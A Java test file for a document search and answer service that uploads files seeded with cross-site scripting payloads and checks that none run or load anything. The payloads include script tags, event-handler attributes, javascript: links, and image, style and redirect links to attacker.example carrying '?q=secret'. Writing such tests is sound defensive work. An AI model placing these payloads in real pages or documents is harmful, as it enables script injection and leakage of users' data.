package dev.docent.api;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.startsWith;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Route;
import com.microsoft.playwright.options.AriaRole;
import dev.docent.wiring.TestPlatform;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;

/// Documents and answers that try to run in the page or to make it load something. A window with a
/// dialog, a request to another origin or a breach of the policy fails.
@QuarkusTest
@QuarkusTestResource(TestPlatform.class)
class StoredAttacksTest {
  private static final String FAR = "http://attacker.example/";
  private static final String MARKUP =
      """
      <script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)></svg>
      <iframe src="javascript:alert(1)"></iframe><img src="%1$spixel.png">
      <a href="javascript:alert(1)">run</a><a href="%1$s">away</a><style>@import "%1$sa.css"</style>
      <form action="%1$s"><input autofocus onfocus=alert(1)></form><base href="%1$s">
      <meta http-equiv="refresh" content="0;url=%1$s">
      """
          .formatted(FAR);
  private static final String MARKDOWN =
      """
      ![pixel](%1$sp.png?q=secret) [run](javascript:alert(1)) [away](%1$s) <%1$sauto>
      [by reference][far] ![image by reference][far] **bold** `code`

      [far]: %1$sref?q=secret
      """
          .formatted(FAR);

  private static final List<String> HOSTILE =
      List.of(
          "What does the ferry letter say about script alert(1)?",
          "What is in the ferry table?",
          "What do the ferry notes say about the pixel, run and away?",
          "<script>alert(1)</script> <img src=x onerror=alert(1)> ferry paper");

  private static Map<String, byte[]> files() throws IOException {
    Map<String, byte[]> files = new LinkedHashMap<>();
    files.put("page.html", text("<html><body><p>Ferry hall</p>" + MARKUP + "</body></html>"));
    files.put(
        "drawing.svg",
        text(
            "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><text>Ferry</text>"
                + "<script>alert(1)</script></svg>"));
    files.put("notes.md", text("# Ferry notes\n\n" + MARKDOWN + MARKUP));
    files.put("letter.txt", text("Ferry letter " + MARKUP + MARKDOWN));
    files.put(
        "mail.eml",
        text(
            "From: a@one.example\r\nTo: b@two.example\r\nSubject: Ferry <img src=x onerror=alert(1)>"
                + "\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>Ferry"
                + " mail</p>"
                + MARKUP));
    files.put("paper.docx", docx());
    files.put("table.xlsx", xlsx());
    files.put("<img src=x onerror=alert(1)>.txt", text("Ferry of a hostile name " + MARKUP));
    files.put("\"><script>alert(1)</script>/deep.txt", text("Ferry of a hostile folder"));
    files.put("javascript:alert(1)", text("Ferry of a hostile scheme"));
    return files;
  }

  private static byte[] text(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  private static String escaped(String text) {
    return text.replace("&", "&amp;").replace("<", "&lt;").replace("\"", "&quot;");
  }

  private static byte[] docx() throws IOException {
    String relations = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    return zip(
        Map.of(
            "[Content_Types].xml",
            "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default"
                + " Extension=\"rels\""
                + " ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
                + "<Override PartName=\"/word/document.xml\""
                + " ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>",
            "_rels/.rels",
            "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship"
                + " Id=\"r1\" Type=\""
                + relations
                + "/officeDocument\" Target=\"word/document.xml\"/></Relationships>",
            "word/_rels/document.xml.rels",
            "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship"
                + " Id=\"r2\" Type=\""
                + relations
                + "/hyperlink\" Target=\"javascript:alert(1)\" TargetMode=\"External\"/></Relationships>",
            "word/document.xml",
            "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\""
                + " xmlns:r=\""
                + relations
                + "\"><w:body><w:p><w:r><w:t>Ferry paper "
                + escaped(MARKUP)
                + "</w:t></w:r><w:hyperlink r:id=\"r2\"><w:r><w:t>run</w:t></w:r></w:hyperlink></w:p></w:body></w:document>"));
  }

  private static byte[] xlsx() throws IOException {
    String main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
    String relations = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    String kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.";
    return zip(
        Map.of(
            "[Content_Types].xml",
            "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default"
                + " Extension=\"rels\""
                + " ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Override"
                + " PartName=\"/xl/workbook.xml\" ContentType=\""
                + kind
                + "sheet.main+xml\"/><Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\""
                + kind
                + "worksheet+xml\"/></Types>",
            "_rels/.rels",
            "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship"
                + " Id=\"r1\" Type=\""
                + relations
                + "/officeDocument\" Target=\"xl/workbook.xml\"/></Relationships>",
            "xl/_rels/workbook.xml.rels",
            "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship"
                + " Id=\"r1\" Type=\""
                + relations
                + "/worksheet\" Target=\"worksheets/sheet1.xml\"/></Relationships>",
            "xl/workbook.xml",
            "<workbook xmlns=\""
                + main
                + "\" xmlns:r=\""
                + relations
                + "\"><sheets><sheet name=\"&lt;img src=x onerror=alert(1)>\" sheetId=\"1\""
                + " r:id=\"r1\"/></sheets></workbook>",
            "xl/worksheets/sheet1.xml",
            "<worksheet xmlns=\""
                + main
                + "\"><sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>Ferry table "
                + escaped(MARKUP)
                + "</t></is></c><c r=\"B1\" t=\"str\"><f>HYPERLINK(\"javascript:alert(1)\")</f><v>run</v></c></row></sheetData></worksheet>"));
  }

  private static byte[] zip(Map<String, String> entries) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(out)) {
      for (Map.Entry<String, String> entry : entries.entrySet()) {
        zip.putNextEntry(new ZipEntry(entry.getKey()));
        zip.write(text("<?xml version=\"1.0\" encoding=\"UTF-8\"?>" + entry.getValue()));
      }
    }
    return out.toByteArray();
  }

  @Test
  void noDocumentRunsOrLoadsAnything() throws IOException {
    String group = "harbour-" + UUID.randomUUID();
    Service.User anna = Service.user(List.of("EMPLOYEE"), List.of(group));
    String collection = Service.collection(group);
    List<String> read = new ArrayList<>();
    for (Map.Entry<String, byte[]> file : files().entrySet()) {
      String id =
          Service.operator()
              .contentType("application/octet-stream")
              .queryParam("collection", collection)
              .queryParam("path", file.getKey())
              .body(file.getValue())
              .post("/api/v1/documents")
              .then()
              .statusCode(202)
              .extract()
              .path("id");
      anna.request()
          .get("/api/v1/documents/" + id + "/content")
          .then()
          .statusCode(200)
          .header("Content-Disposition", startsWith("attachment;"))
          .header("Content-Type", equalTo("application/octet-stream"))
          .header("X-Content-Type-Options", equalTo("nosniff"))
          .header("Content-Security-Policy", containsString("sandbox"));
      Service.await(
          "document " + id + " ends",
          () ->
              List.of("READY", "REJECTED")
                  .contains(Service.operator().get("/api/v1/documents/" + id).path("state")));
      read.add(id);
    }

    try (Window window = Chromium.window()) {
      window.signIn(anna);
      window.open("/library");
      assertThat(window.page().getByText("onerror=alert(1)").first()).isVisible();
      for (String id : read) {
        window.open("/library/" + id);
        assertThat(window.page().getByText("Contents (SHA-256)")).isVisible();
        if ("READY".equals(Service.operator().get("/api/v1/documents/" + id).path("state"))) {
          assertThat(window.page().locator(".text .block").first()).isVisible();
        }
        noMarkup(window.page().locator("main"));
      }
    }
  }

  @Test
  void noQuotationOfAHostileDocumentRunsOrLoadsAnything() throws IOException {
    String group = "harbour-" + UUID.randomUUID();
    Service.User anna = Service.user(List.of("EMPLOYEE"), List.of(group));
    String collection = Service.collection(group);
    for (String name : List.of("notes.md", "letter.txt", "paper.docx", "table.xlsx", "mail.eml")) {
      String id =
          Service.operator()
              .contentType("application/octet-stream")
              .queryParam("collection", collection)
              .queryParam("path", "<img src=x onerror=alert(1)> " + name)
              .body(files().get(name))
              .post("/api/v1/documents")
              .then()
              .statusCode(202)
              .extract()
              .path("id");
      Service.settled(id, "READY");
    }
    int quoted = 0;
    try (Window window = Chromium.window()) {
      window.signIn(anna);
      for (String question : HOSTILE) {
        String conversation =
            anna.request()
                .contentType(ContentType.JSON)
                .body(
                    Map.of(
                        "question", question, "compose", false, "collections", List.of(collection)))
                .post("/api/v1/ask")
                .then()
                .statusCode(200)
                .extract()
                .path("conversation");
        window.open("/c/" + conversation);
        Locator turn = window.page().locator(".turn");
        assertThat(turn).containsText("Receipt");
        noMarkup(turn);
        for (Locator figure : turn.locator(".quotation figure").all()) {
          quoted += figure.innerText().contains("alert(1)") ? 1 : 0;
          figure.getByRole(AriaRole.LINK).click();
          assertThat(window.page().locator("mark.current").first()).isVisible();
          noMarkup(window.page().locator("main"));
          window.button("Close the source").click();
        }
      }
    }
    assertThat(quoted).as("quotations of hostile text that were shown").isPositive();
  }

  @Test
  void noAnswerRunsOrLoadsAnything() throws IOException {
    Service.User anna = Service.user(List.of("EMPLOYEE"), List.of());
    try (Window window = Chromium.window()) {
      window.signIn(anna);
      // No model writes this on demand: the reply is put in the place of a conversation's.
      window
          .page()
          .route("**/api/v1/conversations/*", route -> answer(route, MARKUP + "\n\n" + MARKDOWN));
      window.open("/c/" + UUID.randomUUID());
      assertThat(window.region("Answer")).containsText("bold");
      noMarkup(window.page().locator(".turn"));
      Locator links = window.page().locator(".turn a");
      for (Locator link : links.all()) {
        assertThat(link.getAttribute("href")).startsWith("/c/");
      }
      window.page().getByText("Receipt").click();
      noMarkup(window.page().locator(".turn"));
    }
  }

  private static void noMarkup(Locator within) {
    assertThat(
            within.locator(
                "script, iframe, object, embed, form[action], base, meta, img[src^=http], [onerror],"
                    + " [onload], [onfocus], a[href^=javascript], a[href^=http]"))
        .hasCount(0);
  }

  private static void answer(Route route, String hostile) {
    Map<String, Object> citation = new LinkedHashMap<>();
    citation.put("number", 1);
    citation.put("document", UUID.randomUUID().toString());
    citation.put("title", hostile);
    citation.put("path", hostile);
    citation.put("collection", UUID.randomUUID().toString());
    citation.put("revision", "0".repeat(64));
    citation.put("mediaType", "text/html");
    citation.put("page", null);
    citation.put("pageLabel", hostile);
    citation.put("text", hostile);
    citation.put("start", 0);
    citation.put("end", 10);
    citation.put("boxes", List.of());
    citation.put("foundBy", List.of("words"));
    citation.put("score", 1);
    Map<String, Object> answer = new LinkedHashMap<>();
    answer.put("id", UUID.randomUUID().toString());
    answer.put("kind", "composed");
    answer.put(
        "sentences",
        List.of(Map.of("text", hostile, "citations", List.of(1), "verdict", "supported")));
    answer.put("quotations", List.of(citation));
    answer.put("citations", List.of(citation));
    answer.put("withheld", 1);
    answer.put("refusal", null);
    answer.put("model", Map.of("name", hostile, "sha256", hostile));
    answer.put("note", hostile);
    answer.put(
        "timings",
        Map.of(
            "retrieveMillis", 1,
            "quotationMillis", 1,
            "firstTokenMillis", 1,
            "totalMillis", 1,
            "promptTokens", 1,
            "generatedTokens", 1));
    answer.put("audit", Map.of("intent", hostile, "outcome", hostile));
    answer.put("conversation", UUID.randomUUID().toString());
    Map<String, Object> whole =
        Map.of(
            "id",
            UUID.randomUUID().toString(),
            "title",
            hostile,
            "createdAt",
            "2026-01-01T00:00:00Z",
            "updatedAt",
            "2026-01-01T00:00:00Z",
            "turns",
            List.of(
                Map.of(
                    "question",
                    hostile,
                    "scope",
                    Map.of("collections", List.of(), "documents", List.of()),
                    "answer",
                    answer,
                    "askedAt",
                    "2026-01-01T00:00:00Z")));
    try {
      route.fulfill(
          new Route.FulfillOptions()
              .setContentType("application/json")
              .setBody(new ObjectMapper().writeValueAsString(whole)));
    } catch (com.fasterxml.jackson.core.JsonProcessingException e) {
      throw new IllegalStateException(e);
    }
  }
}
